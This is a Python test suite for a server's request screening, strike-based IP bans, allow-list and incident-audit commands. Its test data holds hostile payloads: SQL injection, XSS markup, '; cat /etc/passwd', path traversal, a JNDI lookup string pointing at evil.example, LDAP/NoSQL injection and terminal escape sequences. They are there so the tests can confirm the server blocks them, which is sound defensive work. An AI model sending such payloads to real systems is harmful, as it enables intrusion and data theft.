"""Request screening and bans on the real program, over a socket: the contract's rows, strikes, the allow-list, a restart."""

import json
import subprocess
import unittest
import urllib.parse

import httpx

from support import Case, Server, program, wait_for

SOURCE = """
    from interlock import task

    @task
    def echo(text: str = "") -> str:
        "Gives back what it got."
        return text
"""
ATTACK = "/tasks?filter=';%20DROP%20TABLE%20tasks;%20--"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"


def ask(server, path, token=None, **options):
    with server.http(token) as client:
        return client.get(path, **options)


class TheContract(Case):
    """Section 11, on a server that trusts 127.0.0.1 so that no test bans another."""

    SOURCE = SOURCE
    VARIABLES = {"BAN_ALLOW": "127.0.0.0/8"}
    ADD_USERS = ("vera", "olaf")

    def test_sql_in_a_query_is_blocked_with_and_without_a_token(self):
        for token in (None, self.server.token("vera"), "garbage"):
            body = self.assertProblem(ask(self.server, ATTACK, token), 400, "request_blocked")
            for word in ("sql", "drop", "filter", "rule", "'"):
                self.assertNotIn(word, body["detail"].lower())

    def test_every_encoding_of_an_attack_is_blocked(self):
        for attack in ("<script>alert(1)</script>", "' or '1'='1", "../../etc/passwd", "1 UNION SELECT NULL,NULL",
                       "; cat /etc/passwd", "{{7*7}}", "${jndi:ldap://evil.example/a}", "*)(uid=*", '{"$gt": ""}'):
            once = urllib.parse.quote(attack, safe="")
            twice = urllib.parse.quote(once, safe="")
            entities = urllib.parse.quote("".join("&#x%x;" % ord(c) for c in attack), safe="")
            for text in (once, once.lower(), twice, entities):
                with self.subTest(text=text):
                    self.assertProblem(ask(self.server, "/tasks?q=" + text), 400, "request_blocked")

    def test_honest_queries_are_answered(self):
        for query in ("filter=select", "q=drop+table+of+reagents", "action=plate..csv", "action=a%2Fb", "q=O%27Brien",
                      "q=javascript:%20the%20good%20parts", "q=50%25+EtOH", "q=x+%3C+y+and+y+%3E+z", "limit=5"):
            with self.subTest(query=query):
                self.assertEqual(ask(self.server, "/runs?" + query, self.server.token("vera")).status_code, 200)

    def test_a_script_as_a_name_is_401_for_strangers_and_blocked_for_administrators(self):
        user = {"name": "<script>alert(1)</script>", "password": "seven purple pipettes", "roles": ["viewer"]}
        with self.server.http() as client:
            self.assertProblem(client.post("/users", json=user), 401, "unauthorized")
        with self.server.as_user("vera") as client:
            self.assertProblem(client.post("/users", json=user), 403, "forbidden")
        with self.server.as_user("admin") as client:
            self.assertProblem(client.post("/users", json=user), 400, "request_blocked")

    def test_parameters_come_back_as_they_were_sent_and_are_observed(self):
        before = len(self.server.events("pattern_observed"))
        answer = self.server.run("echo", {"text": MARKUP}, user="olaf")
        self.assertEqual(answer.status_code, 200, answer.text)
        self.assertEqual(answer.json()["result"], MARKUP)
        self.assertEqual(answer.headers["content-type"], "application/json")
        run = self.server.run_of(answer.json()["run_id"], "vera")
        self.assertEqual(run["parameters"], {"text": MARKUP})
        seen = wait_for(lambda: self.server.events("pattern_observed")[before:], "the event")
        self.assertEqual(seen[0]["details"]["place"], "free_text")

    def test_proxy_headers_and_odd_user_agents_are_served(self):
        for headers in ({"X-Real-IP": "203.0.113.7", "X-Forwarded-For": "203.0.113.7"}, {"User-Agent": ""},
                        {"User-Agent": "ESP32"}, {"User-Agent": "sqlmap/1.8"}):
            self.assertEqual(ask(self.server, "/health", headers=headers).status_code, 200, headers)

    def test_a_stop_with_any_words_stops(self):
        with self.server.as_user("vera") as client:
            answer = client.post("/stop?x=%3Cscript%3E", json={"reason": MARKUP}, headers={"Referer": "' or 1=1--"})
        self.assertEqual(answer.status_code, 200, answer.text)
        self.assertEqual(answer.json()["reason"], MARKUP)
        with self.server.as_user("admin") as client:
            self.assertEqual(client.post("/stop/release", json={"reason": "test over"}).status_code, 200)

    def test_the_rules_have_a_version_and_a_day(self):
        started = next(line for line in self.server.log_lines() if line.get("message") == "the server is starting")
        self.assertRegex(started["screening_rules"], r"^20\d\d-[01]\d-[0-3]\d\.\d+$")

    def test_the_allow_list_wins(self):
        for _ in range(12):
            self.assertProblem(ask(self.server, ATTACK), 400, "request_blocked")
        self.assertHealthy()
        self.assertEqual(self.server.get("/bans").json(), [])

    def test_metrics_count_by_family_and_the_log_holds_no_payload(self):
        self.assertProblem(ask(self.server, "/tasks?q=%3Csvg%20onload=alert(4711)%3E"), 400, "request_blocked")
        text = ask(self.server, "/metrics").text
        counted = [line for line in text.splitlines() if line.startswith("orchestrator_blocked_requests_total{")]
        self.assertTrue(any('reason="markup"' in line and not line.endswith(" 0") for line in counted), counted)
        self.assertTrue(any('reason="ldap"' in line for line in counted), counted)
        self.assertIn("interlock_observed_patterns_total", text)
        self.assertNotIn("4711", self.server.log())
        for row in self.server.audit(action="request.blocked"):
            self.assertNotIn("alert", json.dumps(row))


class Bans(unittest.TestCase):
    """Strikes lead to 403, which a restart does not lift; an administrator on the machine does."""

    def test_five_attacks_ban_and_a_restart_keeps_the_ban(self):
        with Server(SOURCE) as server:
            token = server.token("admin")
            for _ in range(5):
                self.assertEqual(ask(server, ATTACK).json()["code"], "request_blocked")
            blocked = ask(server, "/health")
            self.assertEqual((blocked.status_code, blocked.json()["code"]), (403, "client_blocked"))
            self.assertTrue(3000 < int(blocked.headers["retry-after"]) <= 3601, blocked.headers)
            self.assertEqual(ask(server, "/users", token).status_code, 403)
            # The stop and the probes stay open.
            self.assertEqual(ask(server, "/health/live").status_code, 200)
            with server.http(token) as client:
                self.assertEqual(client.post("/stop").status_code, 200)
            self.assertEqual(len(server.events("ip_blocked")), 1)

            server.restart()
            self.assertEqual(ask(server, "/health").status_code, 403)

            # The way back in, without a server.
            listed = self.command(server, "list", "--output", "json")
            self.assertEqual([ban["network"] for ban in json.loads(listed)], ["127.0.0.1/32"])
            self.command(server, "remove", "127.0.0.1/32")
            wait_for(lambda: ask(server, "/health").status_code == 200, "the ban is lifted in the running server")
            rows = [row["action"] for row in server.audit() if row["action"].startswith("ban.")]
            self.assertEqual(rows, ["ban.imposed", "ban.removed"])

    def command(self, server, *words):
        done = subprocess.run([program(), "security", "bans", *words, "--state", server.state], env=server.variables,
                              capture_output=True, timeout=60, check=False)
        self.assertEqual(done.returncode, 0, done.stderr.decode())
        return done.stdout.decode()

    def test_a_ban_of_another_process_is_noticed(self):
        with Server(SOURCE) as server:
            self.assertEqual(ask(server, "/health").status_code, 200)
            self.command(server, "add", "127.0.0.0/8", "--reason", "test", "--for", "1h")
            wait_for(lambda: ask(server, "/health").status_code == 403, "the ban is in force")

    def test_observing_neither_refuses_nor_bans(self):
        for text in ("false", "observe"):
            with Server(SOURCE, variables={"BLOCK_SUSPICIOUS_PATTERNS": text}) as server:
                for _ in range(8):
                    self.assertEqual(ask(server, ATTACK, server.token()).status_code, 200)
                self.assertTrue(any("only recorded" in str(line["details"]) for line in server.events("config_insecure")))
                self.assertGreaterEqual(len(server.events("pattern_observed")), 8)
                self.assertEqual(server.get("/bans").json(), [])

    def test_reasons_are_held_to_the_rules_of_titles_when_asked(self):
        with Server(SOURCE, variables={"BLOCK_SUSPICIOUS_TEXT": "true"}) as server:
            with server.as_user("admin") as client:
                self.assertEqual(client.post("/stop").status_code, 200)
                answer = client.post("/stop/release", json={"reason": MARKUP})
                self.assertEqual((answer.status_code, answer.json()["code"]), (400, "request_blocked"))
                answer = client.post("/stop/release", json={"reason": "Drop table of reagents is back"})
                self.assertEqual(answer.status_code, 200, answer.text)

    def test_nonsense_stops_the_start(self):
        for name, text in (("BLOCK_SUSPICIOUS_PATTERNS", "maybe"), ("BAN_ALLOW", "lab.example")):
            server = Server(SOURCE, variables={name: text})
            try:
                code, said = server.refused()
                self.assertNotEqual(code, 0)
                self.assertIn({"BAN_ALLOW": "ban_allow"}.get(name, "patterns"), said)
            finally:
                server.close()


class Incident(Case):
    """What somebody does who is attacked: see from where and with what, shut it out, let it in again."""

    SOURCE = SOURCE
    VARIABLES = {"BAN_ALLOW": "127.0.0.1/32"}

    def setUp(self):
        self.variables = dict(self.server.variables, INTERLOCK_URL=self.server.url, INTERLOCK_TOKEN=self.server.token())

    def cli(self, *words, code=0):
        done = subprocess.run([program(), "--no-input", "-o", "json", *words], env=self.variables, capture_output=True, timeout=60, check=False)
        self.assertEqual(done.returncode, code, done.stderr.decode())
        return json.loads(done.stdout or b"null")

    def come_from(self, address, path, token=None):
        with self.server.http(token, transport=httpx.HTTPTransport(local_address=address)) as client:
            return client.get(path)

    def test_attacks_are_counted_and_found_by_rule_source_and_route(self):
        for _ in range(3):
            self.assertEqual(self.come_from("127.0.0.3", ATTACK).status_code, 400)
        self.assertEqual(self.come_from("127.0.0.4", "/runs?q=%3Cscript%3E").status_code, 400)
        self.assertEqual(self.come_from("127.0.0.4", "/a/../../etc/passwd").status_code, 400)
        blocked = ("--action", "request.blocked")
        wait_for(lambda: len(self.cli("audit", "list", *blocked)) == 5, "the records", 10)
        counted = {by: {row["value"]: row["entries"] for row in self.cli("audit", "top", "--by", by, *blocked)} for by in ("source", "route", "rule")}
        self.assertEqual(counted["source"], {"127.0.0.3": 3, "127.0.0.4": 2})
        self.assertEqual(counted["route"]["GET /tasks"], 3)
        self.assertEqual(counted["route"]["GET /runs"], 1)
        rule = max(counted["rule"], key=counted["rule"].get)
        self.assertEqual((rule.partition(".")[0], counted["rule"][rule]), ("sql", 3))
        for options, found in ((("--rule", rule), 3), (("--source", "127.0.0.4"), 2), (("--route", "GET /tasks"), 3),
                               (("--route", "GET /tasks", "--source", "127.0.0.4"), 0), (("--rule", "no.such"), 0)):
            self.assertEqual(len(self.cli("audit", "list", *blocked, *options)), found, options)
        # Nothing that a client wrote is in the record, the path included.
        self.assertNotIn("etc", json.dumps(self.cli("audit", "list", *blocked)))

    def test_sources_of_failed_sign_ins_are_one_command_away(self):
        with self.server.http(transport=httpx.HTTPTransport(local_address="127.0.0.5")) as client:
            for name in ("admin", "nobody"):
                self.assertEqual(client.post("/auth/login", data={"username": name, "password": "wrong"}).status_code, 401)
        self.assertEqual(self.come_from("127.0.0.5", "/auth/me", "x").status_code, 401)
        failed = ("audit", "top", "--by", "source", "--result", "failed")
        wait_for(lambda: [row for row in self.cli(*failed) if row == {"value": "127.0.0.5", "entries": 3}], "the records", 10)
        self.cli("audit", "top", "--by", "password", code=2)

    def test_a_ban_by_hand_has_an_end_or_none_and_outlives_a_restart(self):
        self.cli("security", "bans", "add", "127.0.0.2", "--reason", "scans every night")
        self.cli("security", "bans", "add", "127.0.0.6", "--reason", "until tomorrow", "--for", "24h")
        self.assertEqual(self.come_from("127.0.0.2", "/health").status_code, 403)
        endless = {ban["network"]: ban["ends_at"] is None for ban in self.cli("security", "bans", "list")}
        self.assertEqual(endless, {"127.0.0.2/32": True, "127.0.0.6/32": False})
        self.server.restart()
        self.variables["INTERLOCK_URL"] = self.server.url
        self.assertEqual(self.come_from("127.0.0.2", "/health").status_code, 403)
        self.assertEqual(self.come_from("127.0.0.6", "/health").status_code, 403)
        for network in endless:
            self.cli("security", "bans", "remove", network)
        self.assertEqual([self.come_from(address, "/health").status_code for address in ("127.0.0.2", "127.0.0.6")], [200, 200])
        self.cli("security", "bans", "remove", "127.0.0.2/32", code=3)

    def test_security_events_name_principal_and_program_and_hold_nothing_that_a_terminal_obeys(self):
        self.server.login()
        agent = b"probe/1 \xc2\x9b31m \xe2\x80\xae \xff" + b"x" * 1000
        with self.server.http("not-a-token") as client:
            self.assertEqual(client.get("/auth/me", headers={"User-Agent": agent}).status_code, 401)
        # The framing of requests refuses control characters; the refusal is told without them.
        answer = self.server.raw(b"GET /auth/me HTTP/1.1\r\nHost: localhost\r\nUser-Agent: a\x1b[31mb\r\n\r\n", 5)
        self.assertIn(b" 400 ", answer.partition(b"\r\n")[0])
        line = wait_for(lambda: [line for line in self.server.events("authentication_failed") if line["user_agent"].startswith("probe/1")], "the event")[-1]
        self.assertEqual(len(line["user_agent"]), 200)
        self.assertTrue(line["user_agent"].isascii() and line["user_agent"].isprintable(), line["user_agent"])
        self.assertIsNone(line["agent_id"])
        self.assertEqual(self.server.events("authentication_succeeded")[-1]["agent_id"], "admin")
        self.assertNotIn("\x1b", self.server.log())


if __name__ == "__main__":
    unittest.main()
